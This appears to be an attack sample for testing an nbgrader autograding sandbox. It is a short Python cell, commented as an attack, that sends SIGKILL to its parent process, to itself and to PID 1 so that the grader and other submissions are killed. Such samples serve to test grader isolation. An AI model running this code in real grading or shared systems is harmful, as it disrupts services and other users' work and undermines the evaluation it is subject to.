# attacks: other processes: SIGKILL to the parent
# success: another submission is not judged
# stock: it kills nbgrader itself, and whoever started it
# %% before
import os
import signal

for _pid in (os.getppid(), os.getpid(), 1):
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError as _error:
        print(_error)
